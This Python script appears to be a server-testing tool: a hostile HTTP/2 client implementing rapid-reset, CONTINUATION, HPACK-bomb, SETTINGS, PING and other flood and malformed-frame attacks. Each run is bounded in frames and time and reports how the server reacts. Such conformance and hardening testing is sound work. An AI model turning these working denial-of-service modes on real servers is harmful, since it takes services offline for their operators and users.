#!/usr/bin/python3
"""A hostile HTTP/2 client for tests: one attack per run, bounded in frames (--count) and time
(--seconds), then one line of key=value results on stdout, for instance

    result=goaway code=ENHANCE_YOUR_CALM last_stream=1 sent=1052 elapsed_ms=41
    result=survived sent=100000 alive=1 elapsed_ms=812
    result=closed sent=300 elapsed_ms=12

result is goaway (the server sent GOAWAY; code and last_stream follow), closed (the connection
ended without GOAWAY), survived (still open at the end; alive=1 when it still answered a PING),
response (request-body, invalid-pseudo: what each request got), no_h2 (the server did not
select h2 in ALPN; alpn= tells what it selected) or error (the tool could not connect).
Frames are built by hand with struct (malformed sequences are the point); the Debian hpack
module (python3-h2 depends on it) decodes the server's header blocks when present.
See README-h2hostile.md for the modes and what nginx and h2o answer to each."""
import argparse
import socket
import ssl
import struct
import sys
import time

try:
    import hpack  # type: ignore

    def new_decoder():
        d = hpack.Decoder()
        d.max_allowed_table_size = 65536
        return d
except ImportError:  # only the status of simple responses is then known
    hpack = None

    def new_decoder():
        return None


DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIO = 0x1, 0x1, 0x4, 0x8, 0x20
ERRORS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
          "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
          "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
SETTINGS_MAX_CONCURRENT_STREAMS, SETTINGS_INITIAL_WINDOW_SIZE, SETTINGS_MAX_FRAME_SIZE = 3, 4, 5
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STATIC_STATUS = {8: "200", 9: "204", 10: "206", 11: "304", 12: "400", 13: "404", 14: "500"}


def errname(code):
    return ERRORS[code] if code < len(ERRORS) else "0x%x" % code


def frame(ftype, flags, stream, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, stream & 0x7FFFFFFF) + payload


def hint(value, prefix_bits, first=0):
    """HPACK integer with an N-bit prefix; first holds the pattern bits above the prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hstr(s):
    b = s.encode() if isinstance(s, str) else s
    return hint(len(b), 7) + b


def literal(name, value, index_name=0, incremental=False):
    """A literal field: without indexing (0000xxxx) or with incremental indexing (01xxxxxx)."""
    pattern, bits = (0x40, 6) if incremental else (0x00, 4)
    if index_name:
        return hint(index_name, bits, pattern) + hstr(value)
    return bytes([pattern]) + hstr(name) + hstr(value)


def request_block(method="GET", path="/", authority="localhost", extra=(), omit=()):
    """A request header block; extra is a list of (name, value), omit names pseudo-headers to leave out."""
    b = b""
    if ":method" not in omit:
        b += bytes([0x82]) if method == "GET" else bytes([0x83]) if method == "POST" else literal("", method, 2)
    if ":scheme" not in omit:
        b += bytes([0x87])  # :scheme https
    if ":path" not in omit:
        b += bytes([0x84]) if path == "/" else literal("", path, 4)
    if ":authority" not in omit:
        b += literal("", authority, 1)
    for n, v in extra:
        b += literal(n, v)
    return b


class H2:
    def __init__(self, a):
        self.a = a
        self.events = []
        self.goaway = None  # (code, last_stream)
        self.goaways = 0
        self.closed = False
        self.rst = {}  # stream -> code name
        self.status = {}  # stream -> status
        self.data = {}  # stream -> bytes received
        self.largest_data = 0  # the largest DATA payload received
        self.end_stream = set()
        self.ping_acks = 0
        self.settings = {}
        self.settings_acks = 0
        self.buf = b""
        self.hdr_stream, self.hdr_block = 0, b""
        self.decoder = new_decoder()
        self.sent = 0  # frames of the attack sent
        self.send_blocked = False
        ctx = ssl.create_default_context(cafile=a.cafile) if a.cafile else ssl._create_unverified_context()
        ctx.set_alpn_protocols(a.alpn.split(","))
        raw = socket.create_connection((a.host, a.port), timeout=10)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if a.rcvbuf:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, a.rcvbuf)
        self.s = ctx.wrap_socket(raw, server_hostname=a.sni)
        self.alpn = self.s.selected_alpn_protocol()

    def start(self, settings=()):
        payload = b"".join(struct.pack(">HI", k, v) for k, v in settings)
        self.send(PREFACE + frame(SETTINGS, 0, 0, payload))

    def send(self, b, timeout=5.0):
        """Sends all of b; False when the server stops reading for timeout seconds or is gone."""
        if self.closed:
            return False
        self.s.settimeout(timeout)
        try:
            self.s.sendall(b)
            return True
        except (socket.timeout, ssl.SSLWantWriteError):
            self.send_blocked = True
            return False
        except (OSError, ssl.SSLError):
            self.closed = True
            return False

    def poll(self, seconds, until=None):
        """Reads and handles frames for up to seconds (0: only what is there), or until until() holds."""
        end = time.monotonic() + seconds
        while not self.closed:
            if until and until():
                return
            left = end - time.monotonic()
            self.s.settimeout(max(left, 0.0) if left > 0 else 0.0)
            try:
                chunk = self.s.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError, BlockingIOError):
                if left <= 0:
                    return
                continue
            except (OSError, ssl.SSLError):
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.buf += chunk
            self.parse()
            if left <= 0 and not self.s.pending():
                return

    def parse(self):
        while len(self.buf) >= 9:
            hi, lo, ftype, flags, stream = struct.unpack(">BHBBI", self.buf[:9])
            n = (hi << 16) | lo
            if len(self.buf) < 9 + n:
                return
            p, self.buf = self.buf[9:9 + n], self.buf[9 + n:]
            self.handle(ftype, flags, stream & 0x7FFFFFFF, p)

    def handle(self, ftype, flags, stream, p):
        if ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(p) - 5, 6):
                k, v = struct.unpack(">HI", p[i:i + 6])
                self.settings[k] = v
            if not self.a.no_settings_ack:
                self.send(frame(SETTINGS, ACK, 0))
        elif ftype == SETTINGS:
            self.settings_acks += 1
        elif ftype == PING and flags & ACK:
            self.ping_acks += 1
        elif ftype == GOAWAY and len(p) >= 8:
            last, code = struct.unpack(">II", p[:8])
            self.goaway = (errname(code), last & 0x7FFFFFFF)
            self.goaways += 1
        elif ftype == RST_STREAM and len(p) >= 4:
            self.rst[stream] = errname(struct.unpack(">I", p[:4])[0])
        elif ftype == DATA:
            self.largest_data = max(self.largest_data, len(p))
            self.data[stream] = self.data.get(stream, 0) + len(p)
            if flags & END_STREAM:
                self.end_stream.add(stream)
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                pad = p[0] if flags & PADDED else 0
                p = p[(1 if flags & PADDED else 0) + (5 if flags & PRIO else 0):len(p) - pad]
                self.hdr_stream, self.hdr_block = stream, b""
                if flags & END_STREAM:
                    self.end_stream.add(stream)
            self.hdr_block += p
            if flags & END_HEADERS:
                self.status.setdefault(self.hdr_stream, self.decode_status(self.hdr_block))

    def decode_status(self, block):
        if self.decoder is not None:
            try:
                for n, v in self.decoder.decode(block, raw=True):
                    if n == b":status":
                        return v.decode()
            except Exception as e:  # noqa: BLE001 - the tool reports, never fails on a reply
                return "undecodable:%s" % type(e).__name__
        return STATIC_STATUS.get(block[0] & 0x7F, "?") if block and block[0] & 0x80 else "?"

    def alive(self):
        """Whether the server still answers a PING within 3 s."""
        before = self.ping_acks
        if not self.send(frame(PING, 0, 0, b"alive?!!"), 3):
            return 0
        self.poll(3, lambda: self.ping_acks > before or self.goaway is not None)
        return int(self.ping_acks > before)

    def outcome(self, t0, **extra):
        """The result line: goaway, closed or survived, with extra fields."""
        fields = {}
        if self.goaway:
            fields.update(result="goaway", code=self.goaway[0], last_stream=self.goaway[1])
        elif self.closed:
            fields["result"] = "closed"
        else:
            fields.update(result="survived", alive=self.alive())
            if self.goaway:
                fields.update(result="goaway", code=self.goaway[0], last_stream=self.goaway[1])
        fields["sent"] = self.sent
        if self.send_blocked:
            fields["send_blocked"] = 1
        fields.update(extra)
        fields["elapsed_ms"] = int((time.monotonic() - t0) * 1000)
        return fields

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass


def flood(c, a, t0, make, batch=100, read=True):
    """Sends make(i) frames in batches until --count, --seconds, a GOAWAY or a close; reads
    between batches unless read is False. Then drains for up to 2 s to see the server's answer."""
    i = 0
    while i < a.count and time.monotonic() - t0 < a.seconds and not c.closed and not c.goaway:
        n = min(batch, a.count - i)
        if not c.send(b"".join(make(i + k) for k in range(n))):
            break
        i += n
        c.sent = i
        if read:
            c.poll(0)
    c.poll(2, lambda: c.goaway is not None)


def m_rapid_reset(c, a, t0):
    block = request_block(path=a.path)
    flood(c, a, t0, lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, block) +
          frame(RST_STREAM, 0, 1 + 2 * i, struct.pack(">I", 8)))
    return c.outcome(t0, rst_received=len(c.rst), responses=len(c.status))


def m_reset_burst(c, a, t0):
    # --count GETs and their RST_STREAM CANCEL in one write: the server answers each request
    # (its response waits in nghttp2's queue, names and values pointing into the stream) and
    # closes the stream before writing anything; then 20 GETs reuse the closed streams' memory.
    # An ASan build shows whether a queued response is read after its stream is gone.
    c.poll(1, lambda: c.settings_acks > 0)
    ids = [1 + 2 * i for i in range(a.count)]
    block = request_block(path=a.path)
    out = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block) for i in ids)
    out += b"".join(frame(RST_STREAM, 0, i, struct.pack(">I", 8)) for i in ids)
    after = [ids[-1] + 2 + 2 * i for i in range(20)]
    out += b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block) for i in after)
    c.send(out)
    c.sent = len(ids)
    c.poll(min(a.seconds, 5), lambda: all(i in c.end_stream or i in c.rst for i in after) or c.goaway is not None)
    return c.outcome(t0, reset_answered=sum(1 for i in ids if i in c.status),
                     answered="%d/%d" % (sum(1 for i in after if c.status.get(i) == "200" and i in c.end_stream), len(after)),
                     bodies=",".join(str(b) for b in sorted({c.data.get(i, 0) for i in after})))


def m_continuation_flood(c, a, t0):
    start = request_block(path=a.path)
    junk = literal("x-continuation", "a" * 1000)
    first = [True]

    def make(i):
        if first[0]:
            first[0] = False
            return frame(HEADERS, END_STREAM, 1, start) + frame(CONTINUATION, 0, 1, junk * 8)
        return frame(CONTINUATION, 0, 1, junk * 8)
    flood(c, a, t0, make, batch=16)
    return c.outcome(t0, header_bytes=c.sent * len(junk) * 8)


def m_settings_flood(c, a, t0):
    flood(c, a, t0, lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 65535 + i % 2)),
          read=False)
    return c.outcome(t0, settings_acks=c.settings_acks)


def m_ping_flood(c, a, t0):
    flood(c, a, t0, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), read=False)
    return c.outcome(t0, ping_acks=c.ping_acks)


def m_priority_flood(c, a, t0):
    # PRIORITY for idle streams, each depending on the previous one: servers that keep a
    # priority tree must bound it
    flood(c, a, t0, lambda i: frame(PRIORITY, 0, 1 + 2 * i, struct.pack(">IB", max(0, 2 * i - 1), 15)))
    return c.outcome(t0)


def m_window_update_flood(c, a, t0):
    flood(c, a, t0, lambda i: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
    return c.outcome(t0)


def m_empty_data_flood(c, a, t0):
    c.send(frame(HEADERS, END_HEADERS, 1, request_block("POST", a.path)))
    flood(c, a, t0, lambda i: frame(DATA, 0, 1))
    return c.outcome(t0, status=c.status.get(1, "-"), rst=c.rst.get(1, "-"))


def m_hpack_bomb(c, a, t0):
    # one 4000-byte field put in the dynamic table (index 62), then referenced by one byte each
    big = literal("x-bomb", "b" * 4000, incremental=True)
    refs = bytes([0xBE]) * max(1, a.count)
    block = request_block(path=a.path) + big + refs
    frames = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    out = b""
    for k, f in enumerate(frames):
        flags = (END_HEADERS if k == len(frames) - 1 else 0) | (END_STREAM if k == 0 else 0)
        out += frame(HEADERS if k == 0 else CONTINUATION, flags, 1, f)
    c.sent = 1 + len(refs)
    c.send(out)
    c.poll(min(a.seconds, 5), lambda: 1 in c.status or 1 in c.rst or c.goaway is not None)
    return c.outcome(t0, decoded_bytes=4006 * (1 + len(refs)), status=c.status.get(1, "-"),
                     rst=c.rst.get(1, "-"))


INVALID = [  # (name, block)
    ("missing_path", lambda p: request_block(path=p, omit=(":path",))),
    ("missing_method", lambda p: request_block(path=p, omit=(":method",))),
    ("uppercase_name", lambda p: request_block(path=p, extra=[("X-Upper", "1")])),
    ("connection_keep_alive", lambda p: request_block(path=p, extra=[("connection", "keep-alive")])),
    ("te_gzip", lambda p: request_block(path=p, extra=[("te", "gzip")])),
    ("te_trailers", lambda p: request_block(path=p, extra=[("te", "trailers")])),  # the valid one
    ("pseudo_after_regular", lambda p: request_block(path=p, extra=[("x-a", "1"), (":foo", "1")])),
    ("unknown_pseudo", lambda p: literal(":foo", "bar") + request_block(path=p)),
    ("empty_path", lambda p: bytes([0x82, 0x87]) + literal("", "", 4) + literal("", "localhost", 1)),
]


def m_invalid_pseudo(c, a, t0):
    """Each malformed request on a connection of its own: answer per case as status:N,
    rst:CODE, goaway:CODE or closed."""
    fields = {"result": "response"}
    c.close()
    for name, make in INVALID:
        if time.monotonic() - t0 > a.seconds:
            fields[name] = "not_run"
            continue
        d = H2(a)
        d.start()
        d.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, make(a.path)))
        d.poll(min(5, a.seconds), lambda: 1 in d.end_stream or 1 in d.rst or d.goaway is not None)
        if 1 in d.status:
            fields[name] = "status:" + d.status[1]
        elif 1 in d.rst:
            fields[name] = "rst:" + d.rst[1]
        elif d.goaway:
            fields[name] = "goaway:" + d.goaway[0]
        else:
            fields[name] = "closed" if d.closed else "nothing"
        d.close()
    fields["elapsed_ms"] = int((time.monotonic() - t0) * 1000)
    return fields


def m_too_many_streams(c, a, t0):
    # responses cannot flow (initial window 0), so every stream stays open on the server
    c.poll(1, lambda: SETTINGS_MAX_CONCURRENT_STREAMS in c.settings)
    limit = c.settings.get(SETTINGS_MAX_CONCURRENT_STREAMS, 0)
    want = min(a.count, (limit or 100) + 10) if limit else min(a.count, 1000)
    block = request_block(path=a.path)
    c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, block) for i in range(want)))
    c.sent = want
    c.poll(min(a.seconds, 3), lambda: c.goaway is not None)
    codes = {}
    for code in c.rst.values():
        codes[code] = codes.get(code, 0) + 1
    return c.outcome(t0, max_concurrent=limit or "none", opened=want,
                     rst=",".join("%s:%d" % kv for kv in sorted(codes.items())) or "-",
                     responses=len(c.status))


def m_request_body(c, a, t0):
    c.send(frame(HEADERS, END_HEADERS, 1, request_block("POST", a.path, extra=[("content-length", str(a.count))])))
    # a first DATA frame; the rest only as far as flow control allows, never waiting on it
    sent = 0
    while sent < a.count and time.monotonic() - t0 < a.seconds and not c.closed:
        n = min(16384, a.count - sent, 65535 - sent) if sent < 65535 else 0
        if n <= 0:
            break
        c.send(frame(DATA, END_STREAM if sent + n == a.count else 0, 1, b"x" * n))
        sent += n
    c.sent = sent
    c.poll(min(a.seconds, 5), lambda: 1 in c.end_stream or 1 in c.rst or c.goaway is not None)
    if 1 in c.end_stream:  # a stream reset after the response, if any, comes just behind it
        c.poll(0.5, lambda: 1 in c.rst)
    f = {"result": "response", "status": c.status.get(1, "-"), "rst": c.rst.get(1, "-"),
         "body_sent": sent, "goaway": c.goaway[0] if c.goaway else "-"}
    f["alive"] = c.alive() if not c.goaway and not c.closed else 0
    f["elapsed_ms"] = int((time.monotonic() - t0) * 1000)
    return f


def m_slow_reader(c, a, t0):
    # settings were sent with a tiny initial window; the connection window (65535) is never
    # raised either: the server can send a few frames, then must give up within its send timeout
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(path=a.path)))
    c.sent = 1
    c.poll(a.seconds, lambda: 1 in c.rst or c.goaway is not None or 1 in c.end_stream)
    f = c.outcome(t0, status=c.status.get(1, "-"), rst=c.rst.get(1, "-"), body_bytes=c.data.get(1, 0),
                  complete=int(1 in c.end_stream))
    return f


def m_truncate(c, a, t0):
    # a file cut short (--truncate-file) while its response waits on a tiny window: once the
    # window opens, the server cannot keep its content-length; stream 1 should be reset,
    # stream 3 (--path2), asked for afterwards on the same connection, answered
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(path=a.path)))
    c.sent = 1
    c.poll(min(a.seconds, 5), lambda: c.data.get(1, 0) > 0 or 1 in c.rst or c.goaway is not None)
    if a.truncate_file:  # the file being served, on this machine
        open(a.truncate_file, "r+b").truncate(0)
    c.send(frame(SETTINGS, 0, 0, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 65535)) +
           frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1 << 20)) +
           frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 20)) +
           frame(HEADERS, END_HEADERS | END_STREAM, 3, request_block(path=a.path2)))
    c.sent = 2
    c.poll(min(a.seconds, 5), lambda: (1 in c.rst or 1 in c.end_stream) and 3 in c.end_stream
           or c.goaway is not None)
    return c.outcome(t0, status1=c.status.get(1, "-"), rst1=c.rst.get(1, "-"), body1=c.data.get(1, 0),
                     complete1=int(1 in c.end_stream), status3=c.status.get(3, "-"),
                     body3=c.data.get(3, 0))


def m_big_frames(c, a, t0):
    # a client that allows frames of up to 16 MiB (SETTINGS_MAX_FRAME_SIZE, sent at the start)
    # and a window as large: the server may send larger DATA frames than 16 KiB, but the
    # response must still arrive whole
    c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535)) +
           frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(path=a.path)))
    c.sent = 1
    c.poll(a.seconds, lambda: 1 in c.rst or c.goaway is not None or 1 in c.end_stream)
    return c.outcome(t0, status=c.status.get(1, "-"), rst=c.rst.get(1, "-"), body_bytes=c.data.get(1, 0),
                     complete=int(1 in c.end_stream), largest_frame=c.largest_data)


def m_idle(c, a, t0):
    """Idle, and deaf to the server's PING: the GOAWAY that names no limit, the final one when
    the server stops waiting for the PING's ACK, then the close."""
    print("ready", flush=True)  # connected, preface and SETTINGS sent
    c.poll(a.seconds, lambda: c.goaway is not None)
    if c.goaway:
        c.poll(max(a.seconds - (time.monotonic() - t0), 0), lambda: c.closed)
    return c.outcome(t0, closed_after=int(c.closed), goaways=c.goaways)


MODES = {
    "rapid-reset": (m_rapid_reset, 10000, 10),
    "reset-burst": (m_reset_burst, 60, 10),
    "continuation-flood": (m_continuation_flood, 10000, 10),
    "settings-flood": (m_settings_flood, 100000, 10),
    "ping-flood": (m_ping_flood, 100000, 10),
    "priority-flood": (m_priority_flood, 100000, 10),
    "window-update-flood": (m_window_update_flood, 100000, 10),
    "empty-data-flood": (m_empty_data_flood, 100000, 10),
    "hpack-bomb": (m_hpack_bomb, 10000, 10),
    "invalid-pseudo": (m_invalid_pseudo, 1, 30),
    "too-many-streams": (m_too_many_streams, 1000, 10),
    "request-body": (m_request_body, 1 << 20, 10),
    "slow-reader": (m_slow_reader, 1, 90),
    "truncate": (m_truncate, 1, 10),
    "idle": (m_idle, 1, 90),
    "big-frames": (m_big_frames, 1, 10),
}


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("mode", choices=sorted(MODES))
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--sni", default="localhost")
    p.add_argument("--cafile", help="verify the server against this CA (default: no verification)")
    p.add_argument("--path", default=None, help="request path (slow-reader: a large file)")
    p.add_argument("--count", type=int, help="frames, streams, references or body bytes (per mode)")
    p.add_argument("--seconds", type=float, help="time bound of the attack and of the wait after it")
    p.add_argument("--window", type=int, default=16, help="slow-reader: SETTINGS_INITIAL_WINDOW_SIZE")
    p.add_argument("--rcvbuf", type=int, default=0, help="SO_RCVBUF (slow-reader: keep it small)")
    p.add_argument("--alpn", default="h2")
    p.add_argument("--path2", default="/", help="truncate: the request made after the cut")
    p.add_argument("--truncate-file", help="truncate: the file behind --path, emptied once its first bytes arrived")
    p.add_argument("--no-settings-ack", action="store_true", help="never acknowledge the server's SETTINGS")
    a = p.parse_args()
    fn, count, seconds = MODES[a.mode]
    a.count = count if a.count is None else a.count
    a.seconds = seconds if a.seconds is None else a.seconds
    a.path = a.path or "/"
    t0 = time.monotonic()
    try:
        c = H2(a)
    except (OSError, ssl.SSLError) as e:
        print("result=error what=%s" % str(e).replace(" ", "_")[:120])
        return 2
    if c.alpn != "h2":
        print("result=no_h2 alpn=%s" % (c.alpn or "none"))
        c.close()
        return 3
    settings = []
    if a.mode in ("slow-reader", "truncate"):
        settings = [(SETTINGS_INITIAL_WINDOW_SIZE, a.window)]
    elif a.mode == "too-many-streams":
        settings = [(SETTINGS_INITIAL_WINDOW_SIZE, 0)]
    elif a.mode == "big-frames":
        settings = [(SETTINGS_INITIAL_WINDOW_SIZE, (1 << 31) - 1), (SETTINGS_MAX_FRAME_SIZE, (1 << 24) - 1)]
    c.start(settings)
    fields = fn(c, a, t0)
    c.close()
    print(" ".join("%s=%s" % kv for kv in fields.items()))
    return 0


if __name__ == "__main__":
    sys.exit(main())
